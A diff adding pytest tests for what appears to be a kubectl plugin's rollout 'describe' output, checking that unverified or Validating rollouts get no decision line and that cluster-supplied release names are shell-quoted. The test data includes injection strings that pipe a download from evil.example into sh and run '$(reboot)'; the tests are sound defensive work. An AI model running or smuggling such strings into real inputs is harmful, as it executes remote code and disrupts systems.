@@ -299,6 +299,42 @@ def test_malformed_facts_offer_no_decision():
         assert not [line for line in lines if line.startswith(DECIDE)], path
 
 
+def decisions(lines):
+    return [line for line in lines if line.startswith(DECIDE)]
+
+
+def test_no_decision_is_offered_that_the_command_would_refuse():
+    """approve refuses an assessment report that does not verify (unless --allow-unverified-report), revoke a
+    rollout that is Validating (operator-api.md rule 2): describe offers neither."""
+    obj = fixture("awaiting-approval")
+    tampered = rendered(obj, report='{"from": "cluster", "components": []}')
+    assert decisions(tampered) == [] and [line for line in tampered if "NOT VERIFIED" in line]
+    assert decisions(rendered(edited("approved-rolling-out", {"status.phase": "Validating"}))) == []
+    assert decisions(rendered(edited("approved-rolling-out", {"status.phase": "Applying"})))
+
+
+@pytest.mark.parametrize("release, pasted", [
+    ("x; curl https://evil.example/p | sh", "'x; curl https://evil.example/p | sh'"),
+    ("$(reboot)", "'$(reboot)'"), ("it's", "'it'\"'\"'s'"), ("nv-sentinel_1.2", "nv-sentinel_1.2")])
+def test_a_word_from_the_cluster_pastes_as_one_argument(release, pasted):
+    """The decision line is shell: the release the rollout waits on (the cluster's text) is quoted so that
+    pasting the line runs acknowledge with exactly that --release, nothing else."""
+    import shlex
+    obj = fixture("awaiting-acknowledgement")
+    obj["status"]["awaitingAcknowledgement"]["release"] = release
+    line, = decisions(rendered(obj))
+    assert " --release %s --expect-uid " % pasted in line
+    words = shlex.split(line[len("Decide on exactly this: "):])
+    assert words[:5] == ["kubectl", "aicr", "acknowledge", "rollout-9b1be94d38a77b42-1", "--release"]
+    assert words[5] == release
+
+
+def test_a_word_that_cannot_be_shown_as_it_is_offers_no_line():
+    obj = fixture("awaiting-acknowledgement")
+    obj["status"]["awaitingAcknowledgement"]["release"] = HOSTILE
+    assert decisions(rendered(obj)) == []
+
+
 def hostile():
     """The awaiting-acknowledgement rollout with HOSTILE in every kind of place describe shows text: a field
     value, a table's first and last column, a record, an acknowledgement, its verified report."""
